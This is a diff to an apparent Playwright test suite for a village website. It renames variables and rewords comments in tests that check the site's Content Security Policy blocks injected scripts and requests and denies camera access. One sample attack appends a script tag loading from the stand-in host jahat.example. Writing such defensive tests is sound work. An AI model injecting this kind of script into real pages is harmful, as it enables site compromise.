@@ -52,7 +52,7 @@ const ATTACKS: Record<string, () => void> = {
     const src = 'https://jahat.example/a.js'
     document.body.append(Object.assign(document.createElement('script'), { src }))
   },
-  // A timer runs it as the page, because a test may evaluate text. The caller receives the refusal.
+  // Runs in a timer, because the policy does not apply to code that Playwright evaluates directly.
   'a function made of text': () => {
     setTimeout(() => {
       try {
@@ -73,9 +73,9 @@ const ATTACKS: Record<string, () => void> = {
 it('stops every injected script, frame, form and request, and denies camera and microphone', async () => {
   const { context, page, expectErrors } = await visit()
   expectErrors('Content Security Policy', 'Failed to load resource')
-  const asked: string[] = []
+  const requested: string[] = []
   await context.route(`${ELSEWHERE}/**`, (route) => {
-    asked.push(route.request().url())
+    requested.push(route.request().url())
     return route.fulfill({ contentType: 'text/javascript', body: 'ran.push(1)' })
   })
   await page.goto(site.url())
@@ -95,7 +95,7 @@ it('stops every injected script, frame, form and request, and denies camera and 
     )
     await attack()
     await stopped
-    const succeeded = [...(await page.evaluate(() => window.ran.splice(0))), ...asked.splice(0)]
+    const succeeded = [...(await page.evaluate(() => window.ran.splice(0))), ...requested.splice(0)]
     expect.soft(succeeded, name).toEqual([])
   }
   const allows = (feature: string) =>
@@ -106,7 +106,7 @@ it('stops every injected script, frame, form and request, and denies camera and 
         ).featurePolicy.allowsFeature(feature),
       feature,
     )
-  // Staff set the position of the village from their own.
+  // Staff can set the coordinates of the village to their own position.
   expect.soft(await allows('geolocation')).toBe(true)
   for (const feature of ['camera', 'microphone', 'display-capture'])
     expect.soft(await allows(feature), feature).toBe(false)
@@ -122,12 +122,12 @@ it.each([
   '/pengaduan/7K3MQ2XVB9TD4R6H',
   '/berita/01KAHZ7Q3M9V4T6R8W2X5Y0ABC',
 ])('serves %s with the content security policy of home', async (path) => {
-  const policyOf = async (path: string) =>
+  const fetchPolicy = async (path: string) =>
     /<head>\s*<meta http-equiv="Content-Security-Policy" content="([^"]*)">/
       .exec(await (await fetch(site.url(path))).text())?.[1]
       ?.replace(/'sha256-[^']*'/, 'hash')
-  expect(await policyOf(path)).toMatch(/^default-src 'none';script-src 'self';/)
-  expect(await policyOf(path)).toBe(await policyOf('/'))
+  expect(await fetchPolicy(path)).toMatch(/^default-src 'none';script-src 'self';/)
+  expect(await fetchPolicy(path)).toBe(await fetchPolicy('/'))
 })
 
 it.each(['/', '/login', '/tidak/ada', '/assets/tidak-ada.js'])(
